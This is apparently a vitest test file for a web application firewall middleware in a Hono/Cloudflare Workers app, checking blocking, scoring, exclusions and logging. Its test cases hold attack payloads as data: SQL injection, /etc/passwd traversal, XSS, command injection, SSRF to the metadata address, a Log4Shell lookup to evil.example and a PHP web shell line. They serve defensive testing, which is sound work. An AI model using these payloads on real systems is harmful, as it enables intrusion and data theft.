/**
 * The security filter middleware in a real middleware chain (request context → geo → edge
 * config → body limit → security filter, as in src/app.ts), with routes that read the body.
 * The security section of the config is set per test by a fixture middleware right after
 * `edgeConfig()` (the rest of the config is the real one from the EdgeConfig object).
 */
// zod-openapi must extend zod before the config schema is built (src/app.ts imports it first too);
// the EdgeConfig object loads src/index.ts into this same module graph.
import "@hono/zod-openapi";
import { env } from "cloudflare:workers";
import { Hono, type MiddlewareHandler } from "hono";
import { afterEach, beforeEach, describe, expect, it, vi, type MockInstance } from "vitest";
import type { AppEnv } from "../../src/env.ts";
import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
import type { SecurityConfig } from "../../src/lib/waf/index.ts";
import { bodyLimit } from "../../src/middleware/body-limit.ts";
import { edgeConfig } from "../../src/middleware/edge-config.ts";
import { geo } from "../../src/middleware/geo.ts";
import { notFound, onError } from "../../src/middleware/problems.ts";
import { requestContext } from "../../src/middleware/request-context.ts";
import { securityFilter } from "../../src/middleware/security-filter.ts";
import { problemOf } from "./helpers.ts";

const BROWSER =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

function withSecurity(security: SecurityConfig): MiddlewareHandler<AppEnv> {
  return async function testSecurity(c, next) {
    c.set("config", { ...c.var.config, security });
    await next();
  };
}

function appWith(s: Record<string, unknown> = {}) {
  return appWithRaw(edgeConfigSchema.parse({ security: s }).security);
}

/** The app with a security section used as given (not validated: a config that bypassed the schema). */
function appWithRaw(s: Record<string, unknown>) {
  const security = { ...edgeConfigSchema.parse({}).security, ...s } as SecurityConfig;
  const app = new Hono<AppEnv>()
    .use(requestContext())
    .use(geo())
    .use(edgeConfig())
    .use(withSecurity(security))
    .use(bodyLimit())
    .use(securityFilter())
    .get("/v1/search", (c) => c.json({ q: c.req.query("q") ?? null }))
    .post("/v1/echo", async (c) => c.json({ body: await c.req.json<unknown>() }))
    .post("/v1/echo-text", async (c) => c.text(await c.req.text()))
    .post("/v1/form", async (c) => c.json(await c.req.parseBody()));
  app.onError(onError);
  app.notFound(notFound);
  return app;
}

interface Sent {
  method?: string;
  headers?: Record<string, string>;
  body?: BodyInit;
  /** `x-dev-cf` override (development only): visitor address, country, ASN. */
  visitor?: { ip?: string; country?: string; asn?: number };
}

function send(app: ReturnType<typeof appWith>, path: string, init: Sent = {}): Promise<Response> {
  const headers: Record<string, string> = { "user-agent": BROWSER, ...init.headers };
  if (init.visitor) headers["x-dev-cf"] = JSON.stringify(init.visitor);
  return Promise.resolve(app.request(path, { method: init.method ?? "GET", headers, body: init.body }, env));
}

let logSpy: MockInstance<typeof console.log>;
beforeEach(() => {
  logSpy = vi.spyOn(console, "log").mockImplementation(() => {});
});
afterEach(() => logSpy.mockRestore());

/** The `waf` field of the request's log line for `res`. */
function wafLog(res: Response): Record<string, unknown> {
  const id = res.headers.get("x-request-id");
  const line = logSpy.mock.calls
    .map((a) => String(a[0]))
    .find((l) => l.includes('"msg":"request"') && l.includes(`"requestId":"${id}"`));
  if (!line) throw new Error(`no request log line for ${id}`);
  return (JSON.parse(line) as { waf: Record<string, unknown> }).waf;
}

describe("security filter middleware", () => {
  it("lets ordinary requests through, logs the decision and times it in Server-Timing", async () => {
    const res = await send(appWith(), "/v1/search?q=O%27Brien%20rock%20and%20roll");
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ q: "O'Brien rock and roll" });
    expect(wafLog(res)).toEqual({ action: "allow" });
    expect(res.headers.get("server-timing")).toMatch(/(?:^|,)waf;dur=\d/);
  });

  it("blocks an attack with a 403 request-blocked problem that does not name the rule; the rule is in the log", async () => {
    const res = await send(appWith(), "/v1/search?q=1%27%20UNION%20SELECT%20password%2C1%20FROM%20users--");
    expect(res.status).toBe(403);
    const text = await res.clone().text();
    const p = await problemOf(res);
    expect(p.type).toMatch(/\/request-blocked$/);
    expect(p.detail).toBe("The request was blocked by the security filter.");
    expect(p.requestId).toBe(res.headers.get("x-request-id"));
    expect(text).not.toMatch(/sqli|union/i);
    expect(wafLog(res)).toMatchObject({ action: "block", ruleId: "sqli-union-select", class: "sqli", part: "query:q" });
    expect(wafLog(res).score).toBeGreaterThanOrEqual(5);
    expect(res.headers.get("server-timing")).toMatch(/waf;dur=/);
  });

  it("filters every path, including unknown ones (403, not 404)", async () => {
    const res = await send(appWith(), "/no/such/route?file=..%2F..%2F..%2Fetc%2Fpasswd");
    expect(res.status).toBe(403);
    expect(wafLog(res)).toMatchObject({ action: "block", class: "traversal" });
    expect((await send(appWith(), "/no/such/route")).status).toBe(404);
  });

  it("mode log never blocks but records the would-be block", async () => {
    const res = await send(appWith({ mode: "log" }), "/v1/search?q=%3Csvg%2Fonload%3Dalert(1)%3E");
    expect(res.status).toBe(200);
    expect(wafLog(res)).toMatchObject({ action: "log", wouldBlock: true, class: "xss", ruleId: "xss-event-handler" });
  });

  it("detects attacks in JSON bodies, forms, cookies and headers", async () => {
    const app = appWith();
    const cases: Array<[string, string, Sent]> = [
      [
        "command",
        "/v1/echo",
        {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ host: "8.8.8.8; cat /etc/passwd" }),
        },
      ],
      [
        "ssrf",
        "/v1/form",
        {
          method: "POST",
          headers: { "content-type": "application/x-www-form-urlencoded" },
          body: "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        },
      ],
      ["template", "/v1/search", { headers: { cookie: "greeting=%7B%7B7*7%7D%7D; theme=dark" } }],
      ["log4shell", "/v1/search", { headers: { "x-api-version": "${${lower:j}ndi:ldap://evil.example/a}" } }],
      [
        "php",
        "/v1/echo-text",
        { method: "POST", headers: { "content-type": "text/plain" }, body: "<?php system($_GET['c']); ?>" },
      ],
      [
        "java",
        "/v1/search",
        { headers: { "content-type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" } },
      ],
    ];
    for (const [cls, path, init] of cases) {
      const res = await send(app, path, init);
      expect(res.status, cls).toBe(403);
      expect(wafLog(res).class, cls).toBe(cls);
    }
  });

  it("the route still reads the whole body after inspection (JSON, text, form)", async () => {
    const app = appWith();
    const doc = { name: "Siobhán O'Brien", notes: "x".repeat(200_000), items: [1, 2, 3] };
    const res = await send(app, "/v1/echo", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(doc),
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ body: doc });
    const text = "line one\nline two — rock 'n' roll\n";
    const t = await send(app, "/v1/echo-text", {
      method: "POST",
      headers: { "content-type": "text/plain" },
      body: new Blob([text]).stream(),
    });
    expect(t.status).toBe(200);
    expect(await t.text()).toBe(text);
    const f = await send(app, "/v1/form", {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "name=D%27Angelo&city=L%27Aquila",
    });
    expect(await f.json()).toEqual({ name: "D'Angelo", city: "L'Aquila" });
  });

  it("only reads maxBodyBytes of the body for inspection (the body-size limit refuses larger ones first)", async () => {
    const app = appWith({ maxBodyBytes: 64 });
    const small = await send(app, "/v1/echo-text", {
      method: "POST",
      headers: { "content-type": "text/plain" },
      body: "<script>alert(1)</script>",
    });
    expect(small.status).toBe(403);
    const large = await send(app, "/v1/echo-text", {
      method: "POST",
      headers: { "content-type": "text/plain" },
      body: `${"a".repeat(100)}<script>alert(1)</script>`,
    });
    expect(large.status).toBe(413);
  });

  it("network rules use the visitor: blocked and allowed addresses, IPv4-mapped IPv6, countries, ASNs", async () => {
    const app = appWith({
      blockedIps: ["203.0.113.0/24"],
      allowedIps: ["203.0.113.9"],
      blockedCountries: ["KP"],
      blockedAsns: [64496],
    });
    const blocked = await send(app, "/v1/search", { visitor: { ip: "203.0.113.7" } });
    expect(blocked.status).toBe(403);
    expect(wafLog(blocked)).toMatchObject({ action: "block", ruleId: "network-blocked-ip", class: "network" });
    const mapped = await send(app, "/v1/search", { visitor: { ip: "::ffff:203.0.113.7" } });
    expect(mapped.status).toBe(403);
    expect(wafLog(mapped).ruleId).toBe("network-blocked-ip");
    const allowed = await send(app, "/v1/search?q=%27%20OR%201%3D1--", { visitor: { ip: "203.0.113.9" } });
    expect(allowed.status).toBe(200);
    expect(wafLog(allowed)).toMatchObject({ action: "allow", ruleId: "network-allowed-ip" });
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "KP" } })).status).toBe(403);
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", asn: 64496 } })).status).toBe(403);
    expect((await send(app, "/v1/search", { visitor: { ip: "198.51.100.1", country: "DE", asn: 3320 } })).status).toBe(
      200,
    );
  });

  it("allowedIps skip body inspection too", async () => {
    const app = appWith({ allowedIps: ["2001:db8::/32"] });
    const body = JSON.stringify({ q: "<script>alert(1)</script>" });
    const res = await send(app, "/v1/echo", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body,
      visitor: { ip: "2001:db8::1" },
    });
    expect(res.status).toBe(200);
    expect(
      (
        await send(app, "/v1/echo", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body,
          visitor: { ip: "2001:db9::1" },
        })
      ).status,
    ).toBe(403);
  });

  it("custom rules: first allow/block wins in order, log rules are recorded", async () => {
    const app = appWith({
      rules: [
        { id: "watch-search", action: "log", match: { pathPrefix: "/v1/search" } },
        { id: "allow-partner", action: "allow", match: { header: { name: "x-partner", contains: "acme" } } },
        { id: "no-wp", action: "block", match: { pathPrefix: "/wp-admin" } },
      ],
    });
    const logged = await send(app, "/v1/search?q=shoes");
    expect(logged.status).toBe(200);
    expect(wafLog(logged)).toMatchObject({ action: "log", ruleId: "watch-search", class: "custom" });
    const partner = await send(app, "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {
      headers: { "x-partner": "ACME Corp" },
    });
    expect(partner.status).toBe(200);
    expect(wafLog(partner)).toMatchObject({ action: "allow", ruleId: "allow-partner" });
    const wp = await send(app, "/wp-admin/install.php");
    expect(wp.status).toBe(403);
    expect(wafLog(wp)).toMatchObject({ action: "block", ruleId: "no-wp", class: "custom" });
  });

  it("protocol rules: a disallowed method is refused; a literal % is text", async () => {
    const app = appWith();
    const propfind = await send(app, "/v1/search", { method: "PROPFIND" });
    expect(propfind.status).toBe(403);
    expect(wafLog(propfind).ruleId).toBe("protocol-method-not-allowed");
    const percent = await send(app, "/v1/search?q=100%");
    expect(percent.status).toBe(200);
    expect(await percent.json()).toEqual({ q: "100%" });
    const sale = await send(app, "/v1/search?q=50%%20off%20%E0%A4%A");
    expect(sale.status).toBe(200);
  });

  it("scanner user agents are blocked, API clients are not", async () => {
    const app = appWith();
    const scan = await send(app, "/v1/search", {
      headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" },
    });
    expect(scan.status).toBe(403);
    expect(wafLog(scan).ruleId).toBe("scanner-user-agent");
    expect((await send(app, "/v1/search", { headers: { "user-agent": "curl/8.5.0" } })).status).toBe(200);
  });
});

describe("security filter policy: anomaly score, exclusions, rule actions, body budget, errors", () => {
  const json = (body: unknown): Sent => ({
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
  const UNION = "1' UNION SELECT password,1 FROM users--";

  it("weak findings add up: each alone passes, together they reach the threshold; the threshold is configurable", async () => {
    const app = appWith();
    const frame = encodeURIComponent("<iframe src=x>");
    const one = await send(app, `/v1/search?a=${frame}`);
    expect(one.status).toBe(200);
    expect(wafLog(one)).toMatchObject({ action: "allow", ruleId: "xss-embedding-tag", score: 3 });
    const other = await send(app, `/v1/search?b=${encodeURIComponent("a' or b")}`);
    expect(other.status).toBe(200);
    expect(wafLog(other)).toMatchObject({ action: "allow", ruleId: "sqli-boolean", score: 2 });
    const both = await send(app, `/v1/search?a=${frame}&b=${encodeURIComponent("a' or b")}`);
    expect(both.status).toBe(403);
    expect(wafLog(both)).toMatchObject({ action: "block", score: 5, ruleIds: ["xss-embedding-tag", "sqli-boolean"] });
    const strict = await send(appWith({ anomalyThreshold: 3 }), `/v1/search?a=${frame}`);
    expect(strict.status).toBe(403);
    const lax = await send(appWith({ anomalyThreshold: 100 }), `/v1/search?q=${encodeURIComponent(UNION)}`);
    expect(lax.status).toBe(200);
  });

  it("within one long posted text, only the strongest finding counts; across fields they still add up", async () => {
    const app = appWith();
    const run = "Start the local server (`npm run serve-tests`) and open http://127.0.0.1:8080/browser-test";
    const post = [
      "The tests run in two places. The automated ones run under node with the default reporter, and the ones",
      "for the browser need a few steps by hand:\n\n* Build the bundle with `node build.js`\n*",
      `${run}\n\nBoth should report zero failures before you open a pull request.`,
    ].join(" ");
    const long = await send(app, "/v1/echo", json({ text: post }));
    expect(long.status).toBe(200);
    expect(wafLog(long)).toMatchObject({ action: "allow", score: 3 });
    // The same two findings in a short value are one payload: they add up.
    const short = await send(app, "/v1/echo", json({ text: run }));
    expect(short.status).toBe(403);
    expect(wafLog(short)).toMatchObject({ action: "block", score: 6 });
    // A strong finding in a long text blocks; a long text's finding and another field's add up.
    expect((await send(app, "/v1/echo", json({ text: `${post} ${UNION}` }))).status).toBe(403);
    const two = await send(app, "/v1/echo", json({ text: post, note: "a' or b" }));
    expect(two.status).toBe(403);
    expect(wafLog(two)).toMatchObject({ action: "block", score: 5 });
  });

  it("paranoia level: level-2 rules count only from paranoiaLevel 2 up", async () => {
    const probe = `/v1/search?q=${encodeURIComponent("alert() vs console.log")}&session_id=abc123`;
    const level1 = await send(appWith(), probe);
    expect(level1.status).toBe(200);
    expect(wafLog(level1)).toEqual({ action: "allow" });
    const level2 = await send(appWith({ paranoiaLevel: 2 }), probe);
    expect(level2.status).toBe(403);
    expect(wafLog(level2)).toMatchObject({ action: "block", ruleId: "xss-js-call", class: "xss", part: "query:q" });
    const session = await send(appWith({ paranoiaLevel: 2 }), "/v1/search?session_id=abc123");
    expect(session.status).toBe(403);
    expect(wafLog(session)).toMatchObject({ ruleId: "fixation-session-param", class: "fixation" });
    // Level-1 rules block at every level.
    for (const paranoiaLevel of [1, 2, 3, 4]) {
      expect(
        (await send(appWith({ paranoiaLevel }), `/v1/search?q=${encodeURIComponent(UNION)}`)).status,
        `level ${paranoiaLevel}`,
      ).toBe(403);
    }
  });

  it("an exclusion by rule id, scoped to a path prefix and a parameter, lets exactly that through", async () => {
    const app = appWith({
      exclusions: [{ rules: ["sqli-union-select"], pathPrefix: "/v1/echo", parameters: ["code"] }],
    });
    const ok = await send(app, "/v1/echo", json({ title: "docs", code: UNION }));
    expect(ok.status).toBe(200);
    // Same payload in another field, or on another path: still blocked.
    expect((await send(app, "/v1/echo", json({ title: UNION }))).status).toBe(403);
    expect((await send(app, `/v1/search?code=${encodeURIComponent(UNION)}`)).status).toBe(403);
  });

  it("an exclusion by class for a header, and a key path in JSON", async () => {
    const app = appWith({
      exclusions: [
        { classes: ["xss"], headers: ["X-Preview-Html"] },
        { classes: ["sqli"], parameters: ["snippets.0.sql"] },
      ],
    });
    const html = await send(app, "/v1/search", { headers: { "x-preview-html": "<img src=x onerror=alert(1)>" } });
    expect(html.status).toBe(200);
    expect((await send(app, "/v1/search", { headers: { "x-other": "<img src=x onerror=alert(1)>" } })).status).toBe(
      403,
    );
    expect((await send(app, "/v1/echo", json({ snippets: [{ sql: UNION }] }))).status).toBe(200);
    expect((await send(app, "/v1/echo", json({ snippets: [{ title: UNION }] }))).status).toBe(403);
  });

  it("ruleActions: a rule in log mode records a would-block and lets the request through; off ignores it", async () => {
    const logged = await send(
      appWith({ ruleActions: { "sqli-union-select": "log" } }),
      `/v1/search?q=${encodeURIComponent(UNION)}`,
    );
    expect(logged.status).toBe(200);
    expect(wafLog(logged)).toMatchObject({
      action: "log",
      wouldBlock: true,
      ruleId: "sqli-union-select",
      class: "sqli",
      part: "query:q",
    });
    const off = await send(
      appWith({ ruleActions: { "sqli-union-select": "off" } }),
      `/v1/search?q=${encodeURIComponent(UNION)}`,
    );
    expect(off.status).toBe(200);
    expect(wafLog(off).wouldBlock).toBeUndefined();
    // Other rules still block.
    expect(
      (
        await send(
          appWith({ ruleActions: { "sqli-union-select": "log" } }),
          "/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        )
      ).status,
    ).toBe(403);
  });

  it("the block decision's log line names the rule ids, class, part and a short sanitized excerpt", async () => {
    const res = await send(appWith(), `/v1/search?q=${encodeURIComponent(`${UNION}\r\n${"x".repeat(300)}`)}`);
    expect(res.status).toBe(403);
    const log = wafLog(res);
    expect(log).toMatchObject({ action: "block", ruleId: "sqli-union-select", class: "sqli", part: "query:q" });
    expect(log.ruleIds).toBeUndefined();
    const excerpt = String(log.excerpt);
    expect(excerpt.startsWith("1' UNION SELECT password,1 FROM users--??x")).toBe(true);
    expect(excerpt.length).toBeLessThanOrEqual(120);
    // Credentials never reach the log, even when they carry the attack.
    const secret = await send(appWith(), "/v1/search", {
      headers: { "x-auth-token": "<script>alert('secret-token-123')</script>" },
    });
    expect(secret.status).toBe(403);
    expect(wafLog(secret).excerpt).toBe("[redacted]");
    expect(logSpy.mock.calls.map((a) => String(a[0])).join("\n")).not.toContain("secret-token-123");
  });

  it("body budget: only inspectBodyBytes are inspected; inspectOverflow allows, logs or blocks the rest", async () => {
    const body = `${"a".repeat(200)}<script>alert(1)</script>`;
    const text: Sent = { method: "POST", headers: { "content-type": "text/plain" }, body };
    const inside = await send(appWith({ inspectBodyBytes: 1_024 }), "/v1/echo-text", text);
    expect(inside.status).toBe(403);
    const allowed = await send(appWith({ inspectBodyBytes: 64 }), "/v1/echo-text", text);
    expect(allowed.status).toBe(200);
    expect(await allowed.text()).toBe(body);
    expect(wafLog(allowed)).toMatchObject({ action: "allow", bodyOverflow: true });
    const logged = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "log" }), "/v1/echo-text", text);
    expect(logged.status).toBe(200);
    expect(wafLog(logged)).toMatchObject({ action: "log", ruleId: "body-inspection-overflow", bodyOverflow: true });
    const blocked = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "block" }), "/v1/echo-text", text);
    expect(blocked.status).toBe(403);
    expect(wafLog(blocked)).toMatchObject({
      action: "block",
      ruleId: "body-inspection-overflow",
      class: "protocol",
      bodyOverflow: true,
    });
    // A body within the budget is not an overflow, whatever the policy.
    const small = await send(appWith({ inspectBodyBytes: 64, inspectOverflow: "block" }), "/v1/echo-text", {
      ...text,
      body: "hello",
    });
    expect(small.status).toBe(200);
    expect(wafLog(small).bodyOverflow).toBeUndefined();
  });

  it("JSON cut at the budget is still read field by field: benign text passes, an attack before the cut is found", async () => {
    const app = appWith({ inspectBodyBytes: 256 });
    const notes = Array.from({ length: 40 }, (_, i) => ({
      id: i,
      text: `Note ${i}: O'Brien's "garden" isn't done, or is it? Select a union rep.`,
    }));
    const benign = await send(app, "/v1/echo", json({ notes }));
    expect(benign.status).toBe(200);
    expect(wafLog(benign)).toMatchObject({ action: "allow", bodyOverflow: true });
    const attack = await send(app, "/v1/echo", json({ notes: [{ id: 1, text: UNION }, ...notes] }));
    expect(attack.status).toBe(403);
    expect(wafLog(attack)).toMatchObject({ ruleId: "sqli-union-select", part: "body:text", bodyOverflow: true });
    // Malformed JSON: the literals and what stands between them are inspected.
    const malformed = await send(app, "/v1/echo-text", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: '{"a": "ok", "b": 1 UNION SELECT password FROM users}',
    });
    expect(malformed.status).toBe(403);
  });

  it("an internal error never answers 500: onError blocks (403) by default or allows, and says so in the log", async () => {
    // A config that bypassed validation (an exclusion that is not an object) makes the filter throw inside.
    const broken = { exclusions: [null] } as unknown as Record<string, unknown>;
    const blockApp = appWithRaw(broken);
    const blocked = await send(blockApp, "/v1/search?q=%3Cb%3Ehi%3C%2Fb%3E%27");
    expect(blocked.status).toBe(403);
    expect(wafLog(blocked)).toMatchObject({ action: "block", ruleId: "waf-internal-error", error: "TypeError" });
    const allowApp = appWithRaw({ ...broken, onError: "allow" });
    const allowed = await send(allowApp, "/v1/search?q=%3Cb%3Ehi%3C%2Fb%3E%27");
    expect(allowed.status).toBe(200);
    expect(wafLog(allowed)).toMatchObject({ action: "allow", ruleId: "waf-internal-error" });
  });

  it("pathological inputs (100 KiB of brackets, quotes, nested encodings) are decided without an error or a 500", async () => {
    const app = appWith();
    const n = 100 * 1024;
    const inputs = [
      "(".repeat(n),
      "[".repeat(n),
      "'".repeat(n),
      "%25".repeat(n / 3),
      `${"%25".repeat(20)}32%25${"%2525".repeat(1_000)}`,
      "<".repeat(n),
      "${".repeat(n / 2),
      "\\".repeat(n),
      "/*".repeat(n / 2),
      "`$(".repeat(n / 3),
      ";truncate[xx".repeat(n / 12),
      `${"{".repeat(n / 2)}${"}".repeat(n / 2)}`,
      // What the command detector's shell view rewrites (form `+`, unset variables, carets, braces)
      // after a command, and an attribute value the XSS detector reads whole.
      `; ls ${"+".repeat(n)}`,
      `x|cat ${"$a ".repeat(n / 3)}`,
      `;id ${"^a".repeat(n / 2)}`,
      `;id {${",".repeat(n)}`,
      `<x is="${" ".repeat(n)}x">`,
      // A tag the XSS detector judges by what follows it (white space that is not the tag's end),
      // many times over; a long run of letters where a sentence is looked for.
      `<meta charset=x>${" ".repeat(383)}x`.repeat(n / 400),
      `';document.cookie ${"A".repeat(n)}`,
      // Near 4 KiB (the repeated-climb check reads values up to that): junk units, letters, then a system file.
      `${"À^".repeat(2040)}etcÁpasswd`,
      `${"a".repeat(4090)}passwd`,
    ];
    for (const input of inputs) {
      for (const init of [
        json({ q: input }),
        { method: "POST", headers: { "content-type": "text/plain" }, body: input } satisfies Sent,
      ]) {
        const res = await send(
          app,
          init.headers?.["content-type"] === "text/plain" ? "/v1/echo-text" : "/v1/echo",
          init,
        );
        expect([200, 403], input.slice(0, 20)).toContain(res.status);
        expect(wafLog(res).error, input.slice(0, 20)).toBeUndefined();
      }
    }
    // The 500 found from outside: `;truncate[xx` in a query and a JSON-operator SQLi in a path.
    const truncate = await send(app, "/v1/search?test=;truncate[xx");
    expect([200, 403]).toContain(truncate.status);
    expect(wafLog(truncate).error).toBeUndefined();
    const jsonOp = await send(app, `/v1/x/${encodeURIComponent(`OR '{"name":"asd"}' ?| array['a','name']`)}`);
    expect(jsonOp.status).toBe(403);
    expect(wafLog(jsonOp).error).toBeUndefined();
  });
});
